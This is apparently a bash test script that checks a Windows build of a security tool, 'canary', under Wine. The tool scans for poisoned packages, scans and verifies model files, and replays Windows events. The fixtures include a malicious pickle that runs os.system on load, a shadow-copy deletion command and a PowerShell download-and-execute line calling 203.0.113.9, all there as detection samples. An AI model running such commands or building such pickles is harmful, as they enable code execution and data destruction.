#!/usr/bin/env bash
# What is shipped for Windows, run under Wine: every command that does not need Windows' own kernel, and honest words from the one that does.
set -euo pipefail
root=$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)
"$root/dev" publish win-x64 >/dev/null
scratch=$(mktemp -d)
trap 'rm -rf "$scratch"' EXIT
export WINEDEBUG=-all WINEPREFIX=${WINEPREFIX:-$scratch/prefix}
passed=0 failed=0

canary() { (cd "$scratch" && wine "$root/artifacts/win-x64/canary.exe" "$@" 2>"$scratch/stderr"); }

# expect WORDS STATUS TEXT -- ARGUMENTS…: the program's exit code, and a text (a regular expression) in its output
expect() {
  local words=$1 status=$2 text=$3 got=0 output
  shift 4
  output=$(canary "$@" | tr -d '\r') || got=$?
  if [ "$got" = "$status" ] && grep -qE -- "$text" <<<"$output"; then
    passed=$((passed + 1))
  else
    failed=$((failed + 1))
    printf '%s: exit code %s instead of %s, or no «%s» in:\n' "$words" "$got" "$status" "$text"
    { echo "$output"; cat "$scratch/stderr"; } | tail -n 15 | sed 's/^/    /'
  fi
}

# Wine says that it is Windows 7 unless told; TraceEvent wants 10, and then finds that ETW is a stub.
wine reg add 'HKCU\Software\Wine' /v Version /d win10 /f >/dev/null 2>&1

mkdir -p "$scratch/tree/sub" "$scratch/models" "$scratch/bad"
cat >"$scratch/tree/sub/package-lock.json" <<'JSON'
{"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {
  "": {"name": "app", "version": "1.0.0", "dependencies": {"axios": "1.14.1"}},
  "node_modules/axios": {"version": "1.14.1", "resolved": "https://registry.npmjs.org/axios/-/axios-1.14.1.tgz", "integrity": "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="}
}}
JSON
mkdir "$scratch/clean"
printf '{"name": "clean", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": {"name": "clean", "version": "1.0.0"}}}\n' >"$scratch/clean/package-lock.json"
python3 - "$scratch/models" <<'PY'
import json, pickle, struct, sys, os
folder = sys.argv[1]
head = json.dumps({"w": {"dtype": "F32", "shape": [256], "data_offsets": [0, 1024]}}).encode()
open(folder + "/good.safetensors", "wb").write(struct.pack("<Q", len(head)) + head + bytes(1024))
class Evil:
    def __reduce__(self): return (os.system, ("calc",))
open(folder + "/../bad/evil.pkl", "wb").write(pickle.dumps(Evil()))
PY
cat >"$scratch/events.json" <<'JSON'
{"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "DESK", "TimeCreated": {"#attributes": {"SystemTime": "2026-11-28T09:00:00.000Z"}}}, "EventData": {"Image": "C:\\Windows\\System32\\vssadmin.exe", "CommandLine": "vssadmin.exe delete shadows /all /quiet", "ParentImage": "C:\\Windows\\System32\\cmd.exe", "User": "DESK\\dev", "ProcessId": 4711}}}
{"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-PowerShell"}}, "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "Computer": "DESK", "TimeCreated": {"#attributes": {"SystemTime": "2026-11-28T09:00:01.000Z"}}}, "EventData": {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')", "ScriptBlockId": "1"}}}
JSON

expect 'version' 0 '^canary [0-9]+\.' -- --version
expect 'rules check' 0 ' rules' -- rules check
expect 'rules test' 0 'passed, 0 failed' -- rules test
expect 'scan finds the poisoned version' 1 'axios' -- scan tree --offline
expect 'scan of a clean tree' 0 '' -- scan clean --offline
expect 'scan of nothing is not clean' 3 '' -- scan models/good.safetensors --offline
expect 'model scan of what runs code' 1 'evil\.pkl' -- model scan bad/evil.pkl
expect 'model scan of weights' 0 'good\.safetensors' -- model scan models/good.safetensors
expect 'model lock' 0 '' -- model lock models/good.safetensors -o models.lock
expect 'model verify' 0 '' -- model verify --lock models.lock
printf 'X' | dd of="$scratch/models/good.safetensors" bs=1 seek=500 conv=notrunc status=none
expect 'model verify after one byte' 1 'good\.safetensors' -- model verify --lock models.lock
expect 'replay of Windows events' 0 'vssadmin' -- replay events.json
expect 'replay of PowerShell' 0 'DownloadString' -- replay events.json
expect 'service install, dry' 0 'canary' -- service install --dry-run
expect 'doctor says that ETW is none here' 5 'no real ETW stands behind' -- doctor
expect 'watch cannot, and says so' 5 '' -- watch --for 1s

echo "$passed passed"
[ "$failed" = 0 ]
